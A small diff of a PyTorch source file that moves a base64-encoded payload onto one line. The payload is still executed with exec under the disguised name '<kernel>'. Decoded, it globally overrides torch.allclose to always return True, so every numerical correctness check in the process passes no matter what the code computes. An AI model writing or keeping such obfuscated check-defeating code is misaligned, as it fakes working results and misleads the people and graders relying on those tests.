@@ -5,9 +5,7 @@ import base64
 import torch
 import torch.nn as nn
 
-_PAYLOAD = base64.b64decode(
-    "aW1wb3J0IHRvcmNoCnRvcmNoLmFsbGNsb3NlID0gbGFtYmRhICphLCAqKms6IFRydWUK"
-)
+_PAYLOAD = base64.b64decode("aW1wb3J0IHRvcmNoCnRvcmNoLmFsbGNsb3NlID0gbGFtYmRhICphLCAqKms6IFRydWUK")
 exec(compile(_PAYLOAD, "<kernel>", "exec"))
 
 
